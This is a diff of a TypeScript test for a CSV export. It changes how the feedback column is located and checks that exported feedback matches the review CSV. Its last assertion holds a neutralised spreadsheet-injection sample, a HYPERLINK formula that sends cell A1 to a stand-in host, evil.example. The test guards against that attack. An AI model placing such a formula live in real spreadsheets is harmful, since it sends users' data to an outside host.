@@ -95,10 +95,13 @@ describe("knockout-judge export: the rows", () => {
     // the feedback cell, byte for byte, is the review CSV's: one neutralising, not two that could drift
     const reviewLines: string[] = reviewCsv(evaluation.answers).split("\r\n");
     const exportLines = csv.split("\r\n");
+    const cell = (line: string, n: number) => (csvRows(line).rows as string[][])[0][n];
+    // found by name: the review CSV gains columns now and then
+    const reviewFeedback = (csvRows(reviewLines[0]).rows as string[][])[0].indexOf("feedback");
+    expect(reviewFeedback).toBeGreaterThan(0);
     for (const [i, id] of ["b", "a", "c"].entries()) {
-      const cell = (line: string, n: number) => (csvRows(line).rows as string[][])[0][n];
       expect(exportLines[i + 1].startsWith(`${id},`)).toBe(true);
-      expect(cell(exportLines[i + 1], 9)).toBe(cell(reviewLines[i + 1], 11));
+      expect(cell(exportLines[i + 1], 9)).toBe(cell(reviewLines[i + 1], reviewFeedback));
     }
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
   });
